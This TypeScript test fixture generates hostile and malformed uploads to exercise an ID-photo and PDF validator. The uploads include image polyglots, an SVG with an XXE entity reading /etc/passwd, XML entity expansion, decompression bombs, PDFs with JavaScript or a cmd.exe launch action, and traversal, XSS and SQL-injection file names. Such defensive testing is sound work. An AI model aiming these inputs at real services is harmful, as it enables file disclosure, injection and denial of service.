import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";
import type { uploadRefusals } from "@/app/_lib/messages/upload";
import { FIRST_OF_MORE, pdfOf, pdfPage } from "./pdf";
import { pdf, picture } from "./pictures";

/** Stands in every payload: no kept file may hold it. */
export const MARKER = "HOSTILE-PAYLOAD";

/** `kind`: where it is posted. `outcome`: why it is refused, or that it is taken, its payload left behind. */
export type HostileFile = {
  name: string;
  kind: "ID_FRONT" | "PROOF" | "PORTRAIT";
  outcome: keyof typeof uploadRefusals | "accepted";
  make: () => Buffer | Promise<Buffer>;
};

const latin1 = (text: string): Buffer => Buffer.from(text, "latin1");
const script = `<script>alert("${MARKER}")</script>`;
const behind = async (bytes: Promise<Buffer>, ...more: (string | Buffer)[]): Promise<Buffer> =>
  Buffer.concat([await bytes, ...more.map((part) => (typeof part === "string" ? latin1(part) : part))]);

// Honest pictures, as the cameras and programs of this world write them.
const jpeg = () => picture(600, 800).jpeg().toBuffer();
const png = () => picture(600, 800).png().toBuffer();
const webp = () => picture(600, 800).webp().toBuffer();

const cut = async (bytes: Promise<Buffer> | Buffer, share: number): Promise<Buffer> => {
  const whole = await bytes;
  return whole.subarray(0, Math.floor(whole.length * share));
};

const JPEG_END = latin1("\xff\xd9");

/** A JPEG that is all data. */
const noisy = (progressive = false) =>
  sharp({
    create: {
      width: 600,
      height: 800,
      channels: 3,
      background: "#888888",
      noise: { type: "gaussian", mean: 128, sigma: 60 },
    },
  })
    .jpeg({ progressive })
    .toBuffer();

/** A JPEG with a small one of its own, end marker included, among its metadata, as cameras put it there. */
async function withPreview(): Promise<Buffer> {
  const [whole, preview] = await Promise.all([noisy(), picture(80, 60).jpeg().toBuffer()]);
  const header = Buffer.from([0xff, 0xe1, (preview.length + 2) >> 8, (preview.length + 2) & 255]);
  return Buffer.concat([whole.subarray(0, 2), header, preview, whole.subarray(2)]);
}

/** A chunk of a PNG with its checksum. */
function chunk(name: string, data: Uint8Array): Buffer {
  const body = Buffer.concat([latin1(name), data]);
  const framed = Buffer.alloc(body.length + 8);
  framed.writeUInt32BE(data.length, 0);
  body.copy(framed, 4);
  framed.writeUInt32BE(crc32(body), body.length + 4);
  return framed;
}

const PNG_SIGNATURE = latin1("\x89PNG\r\n\x1a\n");

function pngHeader(width: number, height: number, colours = 2): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, colours], 8);
  return chunk("IHDR", header);
}

/** A PNG by hand: `pixels` are packed, `before` stands in front of them. */
const pngOf = (
  width: number,
  height: number,
  pixels: Uint8Array,
  { before = [], colours = 2 }: { before?: Buffer[]; colours?: number } = {},
) =>
  Buffer.concat([
    PNG_SIGNATURE,
    pngHeader(width, height, colours),
    ...before,
    chunk("IDAT", deflateSync(pixels)),
    chunk("IEND", new Uint8Array()),
  ]);

/** Rows of black pixels, each after its filter byte. */
const black = (width: number, height: number, bytesPerPixel = 3) => Buffer.alloc(height * (1 + width * bytesPerPixel));

/** A segment put behind the first two bytes of a JPEG. */
async function withSegment(marker: number, data: Buffer): Promise<Buffer> {
  const bytes = await jpeg();
  const header = Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 255]);
  return Buffer.concat([bytes.subarray(0, 2), header, data, bytes.subarray(2)]);
}

async function jpegOfSize(width: number, height: number): Promise<Buffer> {
  const bytes = Buffer.from(await jpeg());
  const frame = bytes.indexOf(latin1("\xff\xc0"));
  bytes.writeUInt16BE(height, frame + 5);
  bytes.writeUInt16BE(width, frame + 7);
  return bytes;
}

/**
 * A progressive JPEG whose last scan is written a thousand times over: each costs the reader a walk through all of it.
 */
async function jpegOfManyScans(): Promise<Buffer> {
  const bytes = await picture(2000, 2000).jpeg({ progressive: true }).toBuffer();
  const last = bytes.lastIndexOf(latin1("\xff\xda"));
  const scan = bytes.subarray(last, -2);
  return Buffer.concat([bytes.subarray(0, last), ...Array.from({ length: 1000 }, () => scan), bytes.subarray(-2)]);
}

/** A WebP by hand out of chunks. */
function riff(...chunks: [name: string, data: Buffer][]): Buffer {
  const body = Buffer.concat([
    latin1("WEBP"),
    ...chunks.map(([name, data]) => {
      const size = Buffer.alloc(4);
      size.writeUInt32LE(data.length);
      return Buffer.concat([latin1(name), size, data, Buffer.alloc(data.length % 2)]);
    }),
  ]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(body.length);
  return Buffer.concat([latin1("RIFF"), size, body]);
}

function webpOfSize(width: number, height: number): Buffer {
  const canvas = Buffer.alloc(10);
  canvas.writeUIntLE(width - 1, 4, 3);
  canvas.writeUIntLE(height - 1, 7, 3);
  return riff(["VP8X", canvas], ["VP8L", latin1("\x2f\0\0\0\0\0\0\0\0\0")]);
}

const frames = async () =>
  sharp(await Promise.all(["#104080", "#804010"].map((colour) => picture(60, 80, colour).png().toBuffer())), {
    join: { animated: true },
  });

/** A ZIP of one stored entry. */
function zip(name: string, content = MARKER): Buffer {
  const data = Buffer.from(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc32(data), 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(name.length, 26);
  const entry = Buffer.alloc(46);
  entry.writeUInt32LE(0x02014b50, 0);
  local.copy(entry, 6, 4, 30);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.set([1, 0, 1, 0], 8);
  end.writeUInt32LE(46 + name.length, 12);
  end.writeUInt32LE(30 + name.length + data.length, 16);
  return Buffer.concat([local, latin1(name), data, entry, latin1(name), end]);
}

/** The box that begins an ISO media file. */
const iso = (brand: string, ...compatible: string[]): Buffer =>
  Buffer.concat([
    Buffer.from([0, 0, 0, 16 + compatible.length * 4]),
    latin1(`ftyp${brand}\0\0\0\0${compatible.join("")}`),
    Buffer.alloc(300),
  ]);

const inIdFront =
  (outcome: HostileFile["outcome"]) =>
  ([name, make]: readonly [string, HostileFile["make"]]): HostileFile => ({ name, kind: "ID_FRONT", outcome, make });

const foreign: HostileFile[] = (
  [
    ["HEIC of a phone", "heic", () => iso("heic", "mif1", "heic")],
    ["HEIF with a general brand", "heic", () => iso("mif1", "mif1", "heic")],
    [
      "AVIF",
      "avif",
      () =>
        sharp({ create: { width: 8, height: 8, channels: 3, background: "#123456" } })
          .avif({ effort: 0 })
          .toBuffer(),
    ],
    ["AVIF with a general brand", "avif", () => iso("mif1", "avif", "mif1")],
    ["GIF", "gif", () => picture(10, 10).gif().toBuffer()],
    ["GIF that moves", "gif", async () => (await frames()).gif().toBuffer()],
    ["BMP", "bmp", () => latin1(`BM\x46\0\0\0\0\0\0\0\x36\0\0\0${"\0".repeat(60)}`)],
    ["TIFF", "tiff", () => picture(10, 10).tiff().toBuffer()],
    ["raw picture of a camera", "tiff", () => iso("crx ", "isom")],
    ["SVG with a script", "svg", () => latin1(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`)],
    [
      "SVG that reads a file of the server",
      "svg",
      () =>
        latin1(
          `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
        ),
    ],
    [
      "XML that grows without end",
      "svg",
      () =>
        latin1(
          `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "${MARKER}"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>`,
        ),
    ],
    ["PSD", "psd", () => latin1(`8BPS\0\x01${"\0".repeat(60)}`)],
    ["JPEG 2000", "jpeg2000", () => latin1(`\0\0\0\x0cjP  \r\n\x87\n${"\0".repeat(60)}`)],
    ["JPEG XL", "jpeg2000", () => latin1(`\xff\x0a${"\0".repeat(60)}`)],
    ["icon", "ico", () => latin1(`\0\0\x01\0\x01\0${"\0".repeat(60)}`)],
    ["MP4", "video", () => iso("isom", "mp41")],
    ["film of an iPhone", "video", () => iso("qt  ")],
    ["AVI", "video", () => latin1(`RIFF\x40\0\0\0AVI LIST${"\0".repeat(60)}`)],
    ["MKV", "video", () => latin1(`\x1a\x45\xdf\xa3\x93\x42\x82\x88matroska`)],
    ["MP3", "audio", () => latin1(`ID3\x03\0\0\0\0\0\0${"\0".repeat(60)}`)],
    ["voice message", "audio", () => latin1(`#!AMR\n${"\0".repeat(60)}`)],
    ["ZIP", "archive", () => zip("photo.jpg")],
    ["RAR", "archive", () => latin1(`Rar!\x1a\x07\x01\0${MARKER}`)],
    ["7z", "archive", () => latin1(`7z\xbc\xaf\x27\x1c\0\x04${MARKER}`)],
    ["Word document", "office", () => zip("[Content_Types].xml")],
    ["old Word document", "office", () => latin1(`\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${"\0".repeat(600)}`)],
    ["OFD document", "office", () => zip("OFD.xml")],
    ["HTML", "html", () => latin1(`\r\n<!DOCTYPE html><html>${script}</html>`)],
    ["PHP", "html", () => latin1(`<?php system("${MARKER}"); ?>`)],
    ["shell script", "text", () => latin1(`#!/bin/sh\necho ${MARKER}\n`)],
    ["Chinese text", "text", () => Buffer.from("这不是照片，只是一段文字。\n")],
    ["program for Windows", "program", () => latin1(`MZ\x90\0\x03\0\0\0${"\0".repeat(60)}${MARKER}`)],
    ["program for Linux", "program", () => latin1(`\x7fELF\x02\x01\x01${"\0".repeat(60)}`)],
    ["PDF as a side of an ID card", "pdf", () => pdf()],
  ] as const
).map(([name, type, make]) => inIdFront(`file_type_${type}`)([name, make]));

const unknown = (
  [
    ["nothing but zeros", () => Buffer.alloc(5000)],
    ["a byte", () => Buffer.from([3])],
    ["noise", () => deflateSync(latin1(MARKER.repeat(9)))],
    ["blanks", () => latin1("   \n\n  ")],
  ] as const
).map(inIdFront("file_type_not_supported"));

const damaged = (
  [
    ["first bytes of a JPEG", () => latin1("\xff\xd8\xff\xe0")],
    ...[0.1, 0.5, 0.9].map((share) => [`JPEG cut at ${share}`, () => cut(jpeg(), share)] as const),
    ...[0.25, 0.5, 0.9, 0.99].flatMap((share) =>
      ([false, true] as const).flatMap((progressive) => {
        const name = `${progressive ? "progressive" : "noisy"} JPEG cut at ${share}`;
        const half = () => cut(noisy(progressive), share);
        return [
          [name, half] as const,
          [`${name}, with an end marker of its own`, () => behind(half(), JPEG_END)] as const,
          ...(share === 0.5
            ? [[`${name}, filled up with zeros`, () => behind(half(), Buffer.alloc(60_000))] as const]
            : []),
        ];
      }),
    ),
    ["JPEG whose last byte of data is gone", async () => (await noisy()).subarray(0, -3)],
    ["half a JPEG with a whole preview in it", async () => cut(withPreview(), 0.6)],
    ...[0.5, 0.99].map(
      (share) =>
        [
          `PNG cut at ${share}, with its last chunk`,
          async () => behind(cut(png(), share), (await png()).subarray(-12)),
        ] as const,
    ),
    ...[0.1, 0.5, 0.9].map((share) => [`PNG cut at ${share}`, () => cut(png(), share)] as const),
    ["PNG without its last chunk", async () => (await png()).subarray(0, -12)],
    ...[0.1, 0.5, 0.9].map((share) => [`WebP cut at ${share}`, () => cut(webp(), share)] as const),
    ["signature of a PNG, then a JPEG", () => behind(Promise.resolve(PNG_SIGNATURE), Buffer.alloc(4))],
    ["WebP of nothing", () => riff()],
    [
      "PNG whose chunk is longer than the world",
      () => Buffer.concat([PNG_SIGNATURE, pngHeader(10, 10), latin1("\xff\xff\xff\xffIDAT")]),
    ],
    ["PNG with a wrong checksum", () => spoilt(pngOf(10, 10, black(10, 10)), 30)],
    ["PNG of no pixels", () => pngOf(0, 0, black(1, 1))],
    ["PNG of too few pixels", () => pngOf(400, 400, black(10, 10))],
    ["JPEG of a thousand scans", jpegOfManyScans],
    ["WebP of 30000×30000", () => webpOfSize(30_000, 30_000)],
    ["WebP larger than its picture", () => webpOfSize(3000, 3000)],
  ] as const
).map(inIdFront("file_damaged"));

const oversized = (
  [
    ["PNG of 30000×30000", () => pngOf(30_000, 30_000, black(100, 100))],
    ["PNG of 30000×30000 in one bit", () => pngOf(30_000, 30_000, Buffer.alloc(1_000_000), { colours: 0 })],
    ["JPEG of 65500×65500", () => jpegOfSize(65_500, 65_500)],
  ] as const
).map(inIdFront("image_too_many_pixels"));

const moving = (
  [
    ["WebP that moves", async () => (await frames()).webp().toBuffer()],
    [
      "PNG that moves",
      () =>
        pngOf(10, 10, black(10, 10), {
          before: [chunk("acTL", Buffer.from([0, 0, 0, 1, 0, 0, 0, 0])), chunk("fcTL", Buffer.alloc(26))],
        }),
    ],
  ] as const
).map(inIdFront("image_animated"));

const carriers = (
  [
    ["JPEG and a ZIP", () => behind(jpeg(), zip("virus.exe"))],
    ["PNG and a ZIP", () => behind(png(), zip("virus.exe"))],
    ["WebP and a ZIP", () => behind(webp(), zip("virus.exe"))],
    ["JPEG with a ZIP in a remark", () => withSegment(0xfe, zip("virus.exe"))],
    ["JPEG and a program in Java", () => behind(jpeg(), Buffer.alloc(70_000), zip("META-INF/MANIFEST.MF"))],
    ["JPEG and HTML", () => behind(jpeg(), `<html><body>${script}`)],
    ["PNG and a script", () => behind(png(), script)],
    ["WebP and HTML", () => behind(webp(), `<!DOCTYPE  html>${script}`)],
    ["JPEG and PHP", () => behind(jpeg(), `<?php echo "${MARKER}"; ?>`)],
    ["JPEG and a PDF", () => behind(jpeg(), pdf())],
    ["JPEG with the beginning of a PDF in a remark", () => withSegment(0xfe, latin1("%PDF-1.7\n"))],
    ["PNG and a RAR", () => behind(png(), `Rar!\x1a\x07\x01\0${MARKER}`)],
    ["JPEG and a program for Linux", () => behind(jpeg(), `\x7fELF\x02\x01\x01${MARKER}`)],
    ["two JPEGs and HTML", () => behind(jpeg(), jpegBytes(), script)],
  ] as const
).map(inIdFront("file_carries_other"));

const exif = {
  IFD0: { Make: MARKER, ImageDescription: script },
  IFD3: { GPSLatitudeRef: "N", GPSLatitude: "30/1 35/1 0/1" },
};

const harmless = (
  [
    ["JPEG with place and a script in its EXIF", () => picture(600, 800).withExif(exif).jpeg().toBuffer()],
    ["WebP with place and a script in its EXIF", () => picture(600, 800).withExif(exif).webp().toBuffer()],
    [
      "JPEG with a script in its XMP",
      () => picture(600, 800).withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${script}</x:xmpmeta>`).jpeg().toBuffer(),
    ],
    ["JPEG with PHP in a remark", () => withSegment(0xfe, latin1(`<?php echo "${MARKER}"; ?>`))],
    [
      "PNG with HTML in a text",
      () => pngOf(40, 40, black(40, 40), { before: [chunk("tEXt", latin1(`Comment\0<html>${script}`))] }),
    ],
    ["JPEG with a film behind it, as phones write", () => behind(jpeg(), iso("mp42", "isom"), MARKER)],
    ["JPEG with a second one behind it, as phones write", () => behind(jpeg(), jpegBytes(), MARKER)],
    ["JPEG with the maker's notes behind it", () => behind(jpeg(), `vivo{"${MARKER}":"<b>1</b>"}`)],
    ["JPEG without its end marker", async () => (await jpeg()).subarray(0, -2)],
    ["JPEG with half an end marker", async () => (await noisy()).subarray(0, -1)],
    ["progressive JPEG without its end marker", async () => (await noisy(true)).subarray(0, -2)],
    ["JPEG with a preview, without its end marker", async () => (await withPreview()).subarray(0, -2)],
    ["JPEG whose second exposure is cut off", async () => behind(jpeg(), (await noisy()).subarray(0, 5000))],
    ["JPEG with noise behind it", () => behind(jpeg(), deflateSync(latin1(MARKER.repeat(9))))],
    ["JPEG in CMYK", () => picture(600, 800).toColourspace("cmyk").jpeg().toBuffer()],
    ["PNG of 16 bits", () => picture(600, 800).toColourspace("rgb16").png().toBuffer()],
    ["PNG of one pixel", () => pngOf(1, 1, black(1, 1))],
    ["PNG of 49 million pixels in 50 kB", () => pngOf(7_000, 7_000, black(7_000, 7_000, 1), { colours: 0 })],
    [
      "PNG whose text unpacks to 100 MB",
      () => pngOf(40, 40, black(40, 40), { before: [chunk("zTXt", packed("Comment\0\0", 100_000_000))] }),
    ],
    [
      "PNG whose colour profile unpacks to 100 MB",
      () => pngOf(40, 40, black(40, 40), { before: [chunk("iCCP", packed("icc\0\0", 100_000_000))] }),
    ],
    ["PNG with 60 MB more than its pixels", () => pngOf(40, 40, Buffer.alloc(60_000_000))],
  ] as const
).map(inIdFront("accepted"));

const portraits: HostileFile[] = [
  { name: "PDF as a portrait", kind: "PORTRAIT", outcome: "file_type_pdf", make: () => pdf() },
  { name: "HEIC as a portrait", kind: "PORTRAIT", outcome: "file_type_heic", make: () => iso("heic", "mif1") },
  {
    name: "JPEG and HTML as a portrait",
    kind: "PORTRAIT",
    outcome: "file_carries_other",
    make: () => behind(jpeg(), script),
  },
  {
    name: "portrait with place and a script in its EXIF",
    kind: "PORTRAIT",
    outcome: "accepted",
    make: () => picture(600, 800).withExif(exif).jpeg().toBuffer(),
  },
];

const asProof =
  (outcome: HostileFile["outcome"]) =>
  ([name, make]: readonly [string, HostileFile["make"]]): HostileFile => ({ name, kind: "PROOF", outcome, make });

const object = (offset = 0) => `${FIRST_OF_MORE + offset} 0 R`;

/** A form of a PDF that draws the one behind it `fan` times. */
const form = (next: number, content: string) => ({
  dictionary: `/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X ${object(next)} >> >>`,
  stream: latin1(content),
});

const drawing = (...more: Parameters<typeof pdfOf>[0]) =>
  pdfPage({ content: "595 0 0 842 0 0 cm /X Do", resources: `/XObject << /X ${object()} >>`, more });

/** An image of zeros, packed twice: some kB that unpack to `size` bytes. */
const image = (side: number, size: number) =>
  drawing({
    dictionary: `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter [/FlateDecode /FlateDecode]`,
    stream: deflateSync(deflateSync(Buffer.alloc(size))),
  });

const objectStream = (content: string) => ({
  dictionary: `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode`,
  stream: deflateSync(latin1(content)),
});

const active = (
  [
    ["a script", () => pdfPage({ catalog: `/OpenAction << /S /JavaScript /JS (app.alert("${MARKER}")) >>` })],
    ["a script spelt with codes", () => pdfPage({ catalog: "/OpenAction << /S /J#61vaScript /J#53 (1) >>" })],
    ["a script of the page", () => pdfPage({ page: "/AA << /O << /S /JavaScript /JS (1) >> >>" })],
    ["a script in a packed object", () => pdfPage({ more: [objectStream("9 0 << /S /JavaScript /JS (1) >>")] })],
    ["a program to start", () => pdfPage({ catalog: "/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>" })],
    [
      "a file attached",
      () =>
        pdfPage({
          catalog: `/Names << /EmbeddedFiles << /Names [(x) ${object()}] >> >>`,
          more: ["<< /Type /Filespec /F (x.exe) >>"],
        }),
    ],
    [
      "a file attached as a remark",
      () => pdfPage({ page: `/Annots [<< /Subtype /FileAttachment /FS << /Type /Filespec >> >>]` }),
    ],
    [
      "an XFA form",
      () =>
        pdfPage({ catalog: `/AcroForm << /XFA ${object()} >>`, more: [{ dictionary: "", stream: latin1("<xdp/>") }] }),
    ],
    [
      "a form that sends itself",
      () => pdfPage({ page: "/AA << /O << /S /SubmitForm /F (https://collector.invalid) >> >>" }),
    ],
    ["a film", () => pdfPage({ page: "/Annots [<< /Subtype /RichMedia /RichMediaContent << >> >>]" })],
    ["another document it goes to", () => pdfPage({ catalog: "/OpenAction << /S /GoToE /D [0 /Fit] >>" })],
  ] as const
).map(asProof("pdf_active_content"));

const pdfs: HostileFile[] = [
  ...active.map((file) => ({ ...file, name: `PDF with ${file.name}` })),
  ...(
    [
      [
        "password",
        "pdf_encrypted",
        () =>
          Buffer.concat([
            pdfPage({}),
            latin1("trailer\n<< /Root 1 0 R /Encrypt << /Filter /Standard /V 2 /R 3 >> >>\n%%EOF\n"),
          ]),
      ],
      ["eleven pages", "pdf_too_many_pages", () => pdf({ pages: 11 })],
      [
        "a thousand pages in a packed object",
        "pdf_too_many_pages",
        () => pdfPage({ more: [objectStream(`9 0 ${"<< /Type /Page >> ".repeat(1000)}`)] }),
      ],
    ] as const
  ).map(([name, outcome, make]) => asProof(outcome)([`PDF with ${name}`, make])),
  ...(
    [
      ...[0.1, 0.5, 0.9].map(
        (share) => [`PDF cut at ${share}`, () => cut(pdfPage({ content: "0 0 9 9 re f" }), share)] as const,
      ),
      ["PDF that is none but for its beginning", () => latin1("%PDF-1.7\nonce upon a time\n%%EOF\n")],
      ["PDF behind something else", () => latin1(`${MARKER}\n${pdf().toString("latin1")}`)],
      ["PDF without pages", () => pdf({ pages: 0 })],
      ["PDF with a page nobody sees", () => pdfPage({ more: ["<< /Type /Page /Parent 2 0 R >>"] })],
      ["PDF whose packed objects unpack to 20 MB", () => pdfPage({ more: [objectStream(" ".repeat(20_000_000))] })],
      [
        "PDF whose forms draw each other a million million times",
        () => drawing(...Array.from({ length: 12 }, (_, index) => form(index + 1, "/X Do ".repeat(10))), form(0, "")),
      ],
      ["PDF whose image is 30000×30000", () => image(30_000, 50_000_000)],
      ["PDF of five million strokes", () => drawing(manyStrokes())],
      [
        "PDF with a hundred thousand packed objects",
        () => withRemainder("<< /Type /ObjStm >>stream\nendstream".repeat(100_000)),
      ],
      ["PDF with a pattern finer than dust", () => dust()],
    ] as const
  ).map(asProof("pdf_unreadable")),
  ...(
    [
      ["PDF whose form draws itself", () => drawing(form(0, "/X Do"))],
      ["PDF whose letters draw themselves", () => type3Loop()],
      ["PDF of a page as large as a country", () => pdfPage({ box: "[0 0 1000000000 1000000000]" })],
      ["PDF of a page of no size", () => pdfPage({ box: "[0 0 0 0]" })],
      ["PDF of a page like a thread", () => pdfPage({ box: "[0 0 14400 0.001]" })],
      [
        "PDF whose table of objects is wrong",
        () =>
          latin1(
            pdfPage({ content: "0 0 9 9 re f" })
              .toString("latin1")
              .replaceAll(/\d{10} 00000 n/g, "0000099999 00000 n"),
          ),
      ],
      ["PDF without a table of objects", () => pdf()],
      [
        "PDF with brackets in brackets in brackets",
        () => pdfPage({ content: "[".repeat(300_000), more: ["[".repeat(300_000)] }),
      ],
      [
        "PDF with a script among its texts",
        () => pdfPage({ catalog: `/Lang (${MARKER})`, content: "BT (<script>) Tj ET" }),
      ],
      ["PDF with nine million signs to look at", () => withRemainder("s".repeat(9_000_000))],
      ["PDF with two million coded names", () => withRemainder("/#61".repeat(2_000_000))],
      ["PDF with a million pages named", () => withRemainder("/Type/Pages ".repeat(700_000))],
      ["PDF with ten thousand streams", () => withRemainder("<< >>stream\nendstream".repeat(10_000))],
      ["PDF and a ZIP", () => Buffer.concat([pdfPage({}), zip("virus.exe"), latin1("\n%%EOF\n")])],
    ] as const
  ).map(asProof("accepted")),
  asProof("pdf_unreadable")(["PDF whose pages are their own parents", () => pagesInACircle()]),
];

/** Every hostile or broken file of the suite. */
export const hostileFiles: readonly HostileFile[] = [
  ...foreign,
  ...unknown,
  ...damaged,
  ...oversized,
  ...moving,
  ...carriers,
  ...harmless,
  ...portraits,
  ...pdfs,
];

/** Names a browser would not send. What is in the file counts alone. */
export const hostileNames: readonly string[] = [
  "../../../etc/passwd",
  "..\\..\\windows\\system32\\evil.exe",
  "photo.jpg\0.php",
  "photo\u202Egpj.exe",
  `${"long".repeat(1250)}.jpg`,
  "photo.php",
  "%2e%2e%2f.jpg",
  ".htaccess",
  "CON.jpg",
  "<img src=x onerror=alert(1)>.jpg",
  "'; DROP TABLE stored_file; --.jpg",
  "\u{1F4F7}照片.JPG",
];

function spoilt(bytes: Buffer, at: number): Buffer {
  bytes[at] = (bytes[at] ?? 0) ^ 255;
  return bytes;
}

const packed = (before: string, size: number) => Buffer.concat([latin1(before), deflateSync(Buffer.alloc(size, 65))]);

/** The smallest whole JPEG there is use for. */
function jpegBytes(): Buffer {
  return latin1("\xff\xd8\xff\xe0\0\x04ab\xff\xd9");
}

const manyStrokes = () => ({
  dictionary: "/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Filter /FlateDecode",
  stream: deflateSync(latin1("0 0 1 1 re f ".repeat(5_000_000))),
});

const dust = () =>
  pdfPage({
    content: "/Pattern cs /P scn 0 0 595 842 re f",
    resources: `/Pattern << /P ${object()} >>`,
    more: [
      {
        dictionary:
          "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 /Resources << >>",
        stream: latin1("0 0 1 1 re f"),
      },
    ],
  });

const type3Loop = () =>
  pdfPage({
    content: "BT /F 12 Tf (a) Tj ET",
    resources: `/Font << /F ${object()} >>`,
    more: [
      `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a ${object(1)} >> /Resources << /Font << /F ${object()} >> >> >>`,
      { dictionary: "", stream: latin1("9 0 d0 BT /F 12 Tf (aa) Tj ET") },
    ],
  });

const pagesInACircle = () =>
  pdfOf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [4 0 R 3 0 R] /Count 2 /Parent 4 0 R >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    "<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
  ]);

/** A whole PDF, then something its reader has to look through. */
const withRemainder = (text: string) =>
  Buffer.concat([pdfPage({}), latin1(`99 0 obj\n<< ${text} >>\nendobj\n%%EOF\n`)]);
